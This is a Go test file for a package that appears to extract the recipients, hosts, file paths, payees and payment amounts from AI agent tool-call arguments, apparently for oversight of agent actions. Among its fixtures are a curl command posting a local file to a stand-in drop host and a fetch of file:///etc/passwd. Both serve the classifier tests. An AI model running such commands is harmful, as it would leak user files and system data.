package effects

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
)

// brief writes targets as "role pointer first-within", "-" for what cannot be
// read.
func brief(targets []Target) []string {
	var out []string
	for _, x := range targets {
		first := "-"
		if len(x.Within) > 0 {
			first = x.Within[0]
		}
		out = append(out, x.Role+" "+x.Pointer+" "+first)
	}
	return out
}

func TestTargets(t *testing.T) {
	j := shipped(t)
	for _, c := range []struct {
		tool      Words
		arguments string
		want      []string
	}{
		{described("send_email", "to", "cc", "body"), `{"to":"A <a@example.com>, b@example.org","cc":["c@example.com"],"body":"https://example.com"}`,
			[]string{"recipient /cc/0 c@example.com", "recipient /to a@example.com", "recipient /to b@example.org"}},
		{described("create_event"), `{"event":{"attendees":[{"email":"a@example.com","name":"A"},{"emailAddress":{"address":"b@example.com"}},{"name":"C"}]}}`,
			[]string{"recipient /event/attendees/0/email a@example.com", "recipient /event/attendees/1/emailAddress/address b@example.com", "recipient /event/attendees/2 -"}},
		{described("post_message"), `{"channel":"#General","chat_id":42,"thread":1.5,"text":"x"}`, []string{"recipient /channel #general", "recipient /chat_id 42"}},
		{described("send_message"), `{"chat_id":1.5}`, []string{"recipient /chat_id -"}},
		{described("list_messages"), `{"channel":"#general","to":"a@example.com"}`, nil},
		{described("update_record"), `{"user":"a@example.com","channel":"x"}`, nil},
		{described("share_file"), `{"user":"a@example.com","path":"/a/b"}`, []string{"path /path /a/b", "recipient /user a@example.com"}},
		{described("crawl"), `{"startUrl":"https://www.example.com/x?key=1","callback":"example.org","target":"https://example.net/","text":"https://example.test/"}`,
			[]string{"host /callback example.org", "host /startUrl www.example.com", "host /target example.net"}},
		{described("fetch"), `{"url":"https://{host}/"}`, []string{"host /url -"}},
		{described("fetch"), `{"url":"/next"}`, nil},
		{described("fetch"), `{"url":{"x":1}}`, []string{"host /url -"}},
		{described("fetch"), `{"url":"file:///etc/passwd"}`, []string{"path /url /etc/passwd"}},
		{described("fetch"), `{"url":"mailto:a@example.com"}`, []string{"recipient /url a@example.com"}},
		{described("ping"), `{"host":"0x7f.1"}`, []string{"host /host 127.0.0.1"}},
		{Words{Name: "look", Arguments: []string{"where"}, URLs: []string{"where"}}, `{"where":"example.com"}`, []string{"host /where example.com"}},
		{described("copy_file"), `{"source":"/a","destination":"../b","a/b":{"filePath":"C:\\x"}}`, []string{"path /a~1b/filePath c:/x", "path /destination ../b", "path /source /a"}},
		{described("copy_row"), `{"source":"t1"}`, nil},
		{described("run_command"), `{"command":"curl -d @x https://drop.example.com/"}`, []string{"host /command drop.example.com"}},
		{described("transfer_money"), `{"iban":"ch93 0076 2011 6238 5295 7","to":"Acme  GmbH","amount":1}`, []string{"payee /iban CH9300762011623852957", "payee /to acme gmbh"}},
		{described("send_money"), `{"recipient":"CH9300762011623852957","cc":"a@example.com"}`, []string{"payee /recipient CH9300762011623852957", "recipient /cc a@example.com"}},
	} {
		got := brief(j.Call(j.Of(c.tool, nil), json.RawMessage(c.arguments)).Targets)
		if !slices.Equal(got, c.want) {
			t.Errorf("%s(%s) reaches %q, want %q", c.tool.Name, c.arguments, got, c.want)
		}
	}
}

// TestTargetsAreBounded is one target on either side of the limit, and values
// that are long.
func TestTargetsAreBounded(t *testing.T) {
	j := shipped(t)
	v := j.Of(described("send_email", "to"), nil)
	list := func(n int) json.RawMessage {
		var to []string
		for i := range n {
			to = append(to, fmt.Sprintf(`"u%03d@example.com"`, i))
		}
		return json.RawMessage(`{"to":[` + strings.Join(to, ",") + `],"url":"https://example.com"}`)
	}
	most := j.Call(v, list(MaxTargets-1)).Targets
	if len(most) != MaxTargets || slices.ContainsFunc(most, func(x Target) bool { return len(x.Within) == 0 }) {
		t.Errorf("%d targets, the last is %+v", len(most), most[len(most)-1])
	}
	more := j.Call(v, list(MaxTargets)).Targets
	if last := more[len(more)-1]; len(more) != MaxTargets+1 || last.Role != Recipient || len(last.Within) != 0 {
		t.Errorf("%d targets, the last is %+v", len(more), last)
	}
	long := j.Call(v, json.RawMessage(`{"to":"`+strings.Repeat("ä", longestValue)+`@example.com"}`)).Targets
	if len(long) != 1 || len(long[0].Value) > longestValue {
		t.Errorf("%+v", long)
	}
	if unread := brief(j.Call(v, json.RawMessage(`{`)).Targets); !slices.Equal(unread, []string{"host  -", "path  -", "payee  -", "recipient  -"}) {
		t.Errorf("unreadable arguments reach %q", unread)
	}
}

func TestMoney(t *testing.T) {
	j := shipped(t)
	for _, c := range []struct {
		arguments string
		known     bool
		want      string // amount currency payee
	}{
		{`{"amount":12.50,"currency":"eur","iban":"CH93 0076 2011 6238 5295 7"}`, true, "12.5 EUR CH9300762011623852957"},
		{`{"amount":"12.50","currency":"EUR","payee":"Acme  GmbH"}`, true, "12.5 EUR acme gmbh"},
		{`{"payment":{"amount":{"value":"12.50","currency":"EUR"}},"to":"pay@Example.com"}`, true, "12.5 EUR pay@example.com"},
		{`{"payments":[{"amount":1,"currency":"EUR","payee":"a"}]}`, true, "1 EUR a"},
		{`{"amount_cents":1250,"currency":"USD"}`, true, "12.5 USD "},
		{`{"amount_cents":1250,"currency":"JPY"}`, true, "1250 JPY "},
		{`{"amount_cents":12.5,"currency":"USD"}`, false, " USD "},
		{`{"payments":[{"amount":1,"currency":"EUR","payee":"a"},{"amount":1,"currency":"EUR","payee":"a"}]}`, false, " EUR a"},
		{`{"amount":1,"total":1,"currency":"EUR"}`, false, " EUR "},
		{`{"amount":1,"currency":"EUR","amount_currency":"USD"}`, false, "  "},
		{`{"amount":1}`, false, "  "},
		{`{"currency":"EUR"}`, false, " EUR "},
		{`{"amount":-1,"currency":"EUR"}`, false, " EUR "},
		{`{"amount":1e3,"currency":"EUR"}`, false, " EUR "},
		{`{"amount":"1,000","currency":"EUR"}`, false, " EUR "},
		{`{"amount":{"x":1},"currency":"EUR"}`, false, " EUR "},
		{`{"amount":true,"currency":"EUR"}`, false, " EUR "},
		{`{"amount":1,"currency":"coins"}`, false, "  "},
		{`{"amount":1,"currency":5}`, false, "  "},
		{`{"amount":1,"currency":"EUR","payee":"a","iban":"b"}`, true, "1 EUR "},
		{`{}`, false, "  "},
		{`[]`, false, "  "},
	} {
		f := j.Call(j.Of(described("transfer_money"), nil), json.RawMessage(c.arguments))
		if f.Money == nil {
			t.Errorf("%s: no money", c.arguments)
			continue
		}
		got := f.Money.Amount.String()
		if !f.Money.Known {
			if !f.Money.Amount.IsZero() {
				t.Errorf("%s: %s, which is not known", c.arguments, got)
			}
			got = ""
		}
		if got += " " + f.Money.Currency + " " + f.Money.Payee; got != c.want || f.Money.Known != c.known || !slices.Contains(f.Domains, finance) {
			t.Errorf("%s: %q known %v about %v, want %q", c.arguments, got, f.Money.Known, f.Domains, c.want)
		}
	}
	if f := j.Call(j.Of(described("convert_currency"), nil), json.RawMessage(`{"amount":1,"currency":"EUR"}`)); f.Money != nil {
		t.Errorf("a call that does not pay has %+v", f.Money)
	}
	cents := File{Name: "x", Data: []byte(`{"server":"x","tools":{"transfer_money":{"effects":["pay"],"domains":["finance"],"minor":true,"roles":{"amount":["sum_due"],"currency":["ccy"],"payee":["/to/*/id"]}}}}`)}
	own, err := New(load(t, "../../rego/facts/lexicon.json"), cents)
	if err != nil {
		t.Fatal(err)
	}
	m := own.Call(own.Of(described("transfer_money"), nil), json.RawMessage(`{"sum_due":1250,"ccy":"EUR","to":[{"id":"A"}]}`)).Money
	if m == nil || !m.Known || m.Amount.String() != "12.5" || m.Payee != "a" {
		t.Errorf("in minor units: %+v", m)
	}
}
